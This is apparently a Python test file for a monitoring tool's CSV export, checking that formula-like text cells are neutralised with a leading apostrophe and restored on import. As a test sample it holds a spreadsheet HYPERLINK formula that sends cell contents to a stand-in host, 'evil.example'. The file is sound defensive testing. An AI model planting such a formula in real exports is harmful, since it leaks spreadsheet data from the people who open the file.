"""Every CSV the product writes neutralises a text cell that could run as a formula; numbers stay numbers; the
import strips the apostrophe again, so the text round-trips as typed."""
from __future__ import annotations

import csv
import io

from monitoring.cli.output import render
from monitoring.reports.safe_csv import safe_cell
from monitoring.trackers.importing.csv_files import restore

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_text_cells_starting_with_a_formula_character_get_a_leading_apostrophe():
    for text in (FORMULA, "+cmd", "-2+3", "@SUM(1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("Police") == "Police" and safe_cell("O'Neill") == "O'Neill"


def test_numbers_dates_and_blanks_stay_as_they_are():
    assert safe_cell(-5) == -5 and safe_cell(-2.5) == -2.5 and safe_cell(None) is None


def test_the_cli_csv_writes_formulas_inert_and_negative_numbers_as_numbers():
    out = render([{"text": FORMULA, "overdue": -3, "agency": "Police"}], ["text", "overdue", "agency"], "csv")

    rows = list(csv.reader(io.StringIO(out)))
    assert rows[1] == ["'" + FORMULA, "-3", "Police"]


def test_the_import_reads_a_neutralised_cell_back_as_typed():
    assert restore("'" + FORMULA) == FORMULA and restore("'-2+3") == "-2+3"
    assert restore("'Tis the season") == "'Tis the season"  # an apostrophe before a letter is the text's own
